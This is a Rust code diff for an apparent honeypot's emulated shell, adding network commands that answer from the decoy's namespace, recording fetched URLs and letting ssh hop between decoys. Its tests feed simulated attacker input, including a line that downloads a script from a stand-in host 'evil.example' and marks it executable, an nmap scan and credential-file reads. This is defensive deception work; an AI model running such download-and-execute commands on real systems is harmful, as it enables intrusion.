@@ -3,14 +3,18 @@
 //! the prompt tell the same story as the banners.
 //!
 //! Lines are split on `;`, `&&`, `||` and `|` (a pipe into `grep`, `head` or `wc -l`
-//! filters the text as the real tools would). `wget` and `curl` report the URL to the
-//! caller (it is recorded) and fail as a host without outbound DNS would; nothing is
-//! fetched. The filesystem is a small read-only tree with a few bait files.
+//! filters the text as the real tools would). Network commands (`ip`, `ping`, `nc`,
+//! `curl`, `ssh`, ...) answer from the decky's real network and reach only inside the
+//! maze ([`super::shell_net`]); fetched URLs are reported to the caller, and `ssh` asks the
+//! caller to hop. The filesystem is a small read-only tree with a few bait files.
 
-use std::net::IpAddr;
+use std::net::{IpAddr, Ipv4Addr};
 use std::time::Instant;
 
+use super::shell_net::{self, HopRequest, Net};
+use crate::netview::NetView;
 use crate::persona::Persona;
+use crate::routes::Reach;
 
 /// What running a line did.
 #[derive(Debug, Default, PartialEq, Eq)]
@@ -24,6 +28,8 @@ pub struct Outcome {
     /// The exit status of the last command, as bash reports it (127 for a command that
     /// does not exist).
     pub status: u32,
+    /// `ssh` to another decky: the session continues there (the rest of the line is not run).
+    pub hop: Option<HopRequest>,
 }
 
 /// One shell session.
@@ -34,27 +40,45 @@ pub struct Shell {
     home: String,
     cwd: String,
     uid: u32,
-    local: IpAddr,
     peer: IpAddr,
     history: Vec<String>,
     started: Instant,
+    net: Net,
 }
 
 impl Shell {
     /// A session of `user` logged in from `peer` to the decky at `local`.
     pub fn new(persona: &Persona, user: &str, local: IpAddr, peer: IpAddr) -> Self {
         let (uid, home) = if user == "root" { (0, "/root".to_owned()) } else { (1000, format!("/home/{user}")) };
+        let v4 = match local {
+            IpAddr::V4(ip) => ip,
+            IpAddr::V6(_) => Ipv4Addr::UNSPECIFIED,
+        };
+        let net = Net { reach: Reach::Nowhere, view: NetView::around(v4, &mac(persona)) };
         Self {
             persona: persona.clone(),
             user: user.to_owned(),
             cwd: home.clone(),
             home,
             uid,
-            local,
             peer,
             history: Vec::new(),
             started: Instant::now(),
+            net,
         }
+    }
+
+    /// The same shell reaching what `reach` allows; inside a decky (`Reach::Maze`) it
+    /// shows the namespace's real interfaces, routes and neighbours instead of the
+    /// network made up around its address.
+    pub async fn on_network(mut self, reach: &Reach) -> Self {
+        if *reach == Reach::Maze
+            && let Ok(view) = NetView::read().await
+        {
+            self.net.view = view;
+        }
+        self.net.reach = reach.clone();
+        self
     }
 
     /// The prompt, as bash shows it.
@@ -126,7 +150,10 @@ impl Shell {
             "/etc/hostname" => format!("{}\n", p.hostname),
             "/etc/os-release" | "/usr/lib/os-release" => p.os_release(),
             "/etc/issue" => format!("{} \\n \\l\n\n", p.distro.issue),
-            "/etc/hosts" => format!("127.0.0.1\tlocalhost\n{}\t{}\n::1\tlocalhost ip6-localhost ip6-loopback\n", self.local, p.hostname),
+            "/etc/hosts" => {
+                let own: String = self.net.view.addresses().iter().map(|ip| format!("{ip}\t{}\n", p.hostname)).collect();
+                format!("127.0.0.1\tlocalhost\n{own}::1\tlocalhost ip6-localhost ip6-loopback\n")
+            }
             "/proc/version" => format!("Linux version {} (buildd@lcy02-amd64-001) (gcc (GCC) 11.4.0) {}\n", p.kernel_release, p.kernel_version),
             "/proc/cpuinfo" => "processor\t: 0\nvendor_id\t: GenuineIntel\nmodel name\t: Intel(R) Xeon(R) Gold 6230R CPU @ 2.10GHz\ncpu MHz\t\t: 2095.078\ncache size\t: 36608 KB\n\n\
                  processor\t: 1\nvendor_id\t: GenuineIntel\nmodel name\t: Intel(R) Xeon(R) Gold 6230R CPU @ 2.10GHz\ncpu MHz\t\t: 2095.078\ncache size\t: 36608 KB\n"
@@ -200,7 +227,7 @@ impl Shell {
     }
 
     /// Runs one command line.
-    pub fn run(&mut self, line: &str) -> Outcome {
+    pub async fn run(&mut self, line: &str) -> Outcome {
         let line = line.trim();
         let mut outcome = Outcome::default();
         if line.is_empty() {
@@ -211,16 +238,30 @@ impl Shell {
             let mut stages = statement.split('|').map(str::trim).filter(|s| !s.is_empty());
             let Some(first) = stages.next() else { continue };
             outcome.status = 0;
-            let mut text = self.command(first, &mut outcome);
+            let mut text = match self.network(first, &mut outcome).await {
+                Some(text) => text,
+                None => self.command(first, &mut outcome),
+            };
             for filter in stages {
                 text = pipe(filter, &text);
             }
             outcome.output.push_str(&text);
-            if outcome.exit {
+            if outcome.exit || outcome.hop.is_some() {
                 break;
             }
         }
         outcome
+    }
+
+    /// A network command (run as root through `sudo` too), or `None`.
+    async fn network(&self, statement: &str, outcome: &mut Outcome) -> Option<String> {
+        let words = split_words(statement);
+        let mut args: Vec<&str> = words.iter().map(String::as_str).collect();
+        if self.uid == 0 && args.first() == Some(&"sudo") {
+            args.remove(0);
+        }
+        let (name, rest) = args.split_first()?;
+        shell_net::command(&self.net, &self.user, name, rest, outcome).await
     }
 
     fn command(&mut self, statement: &str, outcome: &mut Outcome) -> String {
@@ -353,26 +394,6 @@ impl Shell {
                     args = args.join(" ")
                 )
             }
-            "ip" if args.first().is_some_and(|a| a.starts_with('a')) => {
-                let mac = mac(&p);
-                format!(
-                    "1: lo: <LOOPBACK,UP,LOWER_UP> mtu 65536 qdisc noqueue state UNKNOWN group default qlen 1000\n    link/loopback 00:00:00:00:00:00 brd 00:00:00:00:00:00\n    \
-                     inet 127.0.0.1/8 scope host lo\n       valid_lft forever preferred_lft forever\n\
-                     2: eth0@if{idx}: <BROADCAST,MULTICAST,UP,LOWER_UP> mtu 1500 qdisc noqueue state UP group default\n    link/ether {mac} brd ff:ff:ff:ff:ff:ff link-netnsid 0\n    \
-                     inet {ip}/24 brd {brd} scope global eth0\n       valid_lft forever preferred_lft forever\n",
-                    idx = 7 + p.derive("ifindex") % 40,
-                    ip = self.local,
-                    brd = broadcast(self.local)
-                )
-            }
-            "ifconfig" => format!(
-                "eth0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST>  mtu 1500\n        inet {ip}  netmask 255.255.255.0  broadcast {brd}\n        \
-                 ether {mac}  txqueuelen 0  (Ethernet)\n        RX packets 1843212  bytes 1021344121 (1.0 GB)\n        TX packets 1203344  bytes 231122001 (231.1 MB)\n\n\
-                 lo: flags=73<UP,LOOPBACK,RUNNING>  mtu 65536\n        inet 127.0.0.1  netmask 255.0.0.0\n        loop  txqueuelen 1000  (Local Loopback)\n",
-                ip = self.local,
-                brd = broadcast(self.local),
-                mac = mac(&p)
-            ),
             "uptime" => format!("{}\n", self.uptime_line()),
             "w" => format!(
                 "{}\nUSER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n{:<8} pts/0    {:<16} 08:14    0.00s  0.02s  0.00s w\n",
@@ -382,22 +403,6 @@ impl Shell {
             ),
             "who" => format!("{:<8} pts/0        2026-11-22 08:14 ({})\n", self.user, self.peer),
             "history" => self.history.iter().enumerate().map(|(i, h)| format!("{:>5}  {h}\n", i + 1)).collect(),
-            "wget" | "curl" => {
-                let url = args.iter().find(|a| a.contains("://") || a.contains('.') && !a.starts_with('-')).copied().unwrap_or("");
-                if url.is_empty() {
-                    return format!("{name}: missing URL\n");
-                }
-                outcome.fetches.push(url.to_owned());
-                let host = url.split("://").last().unwrap_or(url).split(['/', ':']).next().unwrap_or(url);
-                if name == "wget" {
-                    format!(
-                        "--{}--  {url}\nResolving {host} ({host})... failed: Temporary failure in name resolution.\nwget: unable to resolve host address '{host}'\n",
-                        chrono::Utc::now().format("%Y-%m-%d %H:%M:%S")
-                    )
-                } else {
-                    format!("curl: (6) Could not resolve host: {host}\n")
-                }
-            }
             "free" => "               total        used        free      shared  buff/cache   available\nMem:         4013220     1204112      611540       12044     2197568     2530232\nSwap:        2097148        4096     2093052\n".to_owned(),
             "df" => "Filesystem     1K-blocks    Used Available Use% Mounted on\n/dev/sda1       40581564 9318200  29175896  25% /\ntmpfs            2006608       0   2006608   0% /dev/shm\n".to_owned(),
             "nproc" => "2\n".to_owned(),
@@ -461,16 +466,6 @@ fn mac(persona: &Persona) -> String {
     format!("02:42:{:02x}:{:02x}:{:02x}:{:02x}", bytes[0], bytes[1], bytes[2], bytes[3])
 }
 
-fn broadcast(ip: IpAddr) -> String {
-    match ip {
-        IpAddr::V4(v4) => {
-            let o = v4.octets();
-            format!("{}.{}.{}.255", o[0], o[1], o[2])
-        }
-        IpAddr::V6(_) => "::".to_owned(),
-    }
-}
-
 /// Words of a command, with simple single and double quoting.
 fn split_words(line: &str) -> Vec<String> {
     let mut words = Vec::new();
@@ -531,8 +526,8 @@ mod tests {
         Shell::new(&persona, "ubuntu", "10.1.2.3".parse().unwrap(), "203.0.113.9".parse().unwrap())
     }
 
-    #[test]
-    fn exit_statuses_are_the_ones_bash_and_coreutils_give() {
+    #[tokio::test]
+    async fn exit_statuses_are_the_ones_bash_and_coreutils_give() {
         let mut sh = shell();
         for (line, status) in [
             ("id", 0),
@@ -543,32 +538,32 @@ mod tests {
             ("frobnicate; id", 0),
             ("id; frobnicate", 127),
         ] {
-            assert_eq!(sh.run(line).status, status, "{line}");
+            assert_eq!(sh.run(line).await.status, status, "{line}");
         }
     }
 
-    #[test]
-    fn recon_commands_tell_the_personas_story() {
+    #[tokio::test]
+    async fn recon_commands_tell_the_personas_story() {
         let mut sh = shell();
         assert_eq!(sh.prompt(), "ubuntu@web-01:~$ ");
-        assert!(sh.run("uname -a").output.starts_with("Linux web-01 5.15.0-"));
-        assert_eq!(sh.run("whoami").output, "ubuntu\n");
-        assert!(sh.run("id").output.contains("27(sudo)"));
-        assert!(sh.run("cat /etc/os-release").output.contains("VERSION_CODENAME=jammy"));
-        assert!(sh.run("ip a").output.contains("inet 10.1.2.3/24"));
-        assert!(sh.run("cat /etc/passwd | grep ubuntu").output.starts_with("ubuntu:x:1000"));
-        assert_eq!(sh.run("cat /etc/passwd | wc -l").output, "13\n");
-        assert!(sh.run("cat /etc/shadow").output.contains("Permission denied"));
-        assert!(sh.run("w").output.contains("203.0.113.9"));
-        sh.run("cd /var/www/html");
+        assert!(sh.run("uname -a").await.output.starts_with("Linux web-01 5.15.0-"));
+        assert_eq!(sh.run("whoami").await.output, "ubuntu\n");
+        assert!(sh.run("id").await.output.contains("27(sudo)"));
+        assert!(sh.run("cat /etc/os-release").await.output.contains("VERSION_CODENAME=jammy"));
+        assert!(sh.run("ip a").await.output.contains("inet 10.1.2.3/24"));
+        assert!(sh.run("cat /etc/passwd | grep ubuntu").await.output.starts_with("ubuntu:x:1000"));
+        assert_eq!(sh.run("cat /etc/passwd | wc -l").await.output, "13\n");
+        assert!(sh.run("cat /etc/shadow").await.output.contains("Permission denied"));
+        assert!(sh.run("w").await.output.contains("203.0.113.9"));
+        sh.run("cd /var/www/html").await;
         assert_eq!(sh.prompt(), "ubuntu@web-01:/var/www/html$ ");
-        assert!(sh.run("ls").output.contains("config.php"));
-        assert!(sh.run("nmap -sS 10.0.0.0/8").output.contains("command not found"));
-        let fetch = sh.run("wget http://evil.example/x.sh; chmod +x x.sh");
+        assert!(sh.run("ls").await.output.contains("config.php"));
+        assert!(sh.run("nmap -sS 10.0.0.0/8").await.output.contains("command not found"));
+        let fetch = sh.run("wget http://evil.example/x.sh; chmod +x x.sh").await;
         assert_eq!(fetch.fetches, vec!["http://evil.example/x.sh".to_owned()]);
         assert!(fetch.output.contains("unable to resolve host address 'evil.example'"));
-        assert!(sh.run("history").output.contains("cd /var/www/html"));
-        assert!(sh.run("exit").exit);
+        assert!(sh.run("history").await.output.contains("cd /var/www/html"));
+        assert!(sh.run("exit").await.exit);
     }
 
     #[test]
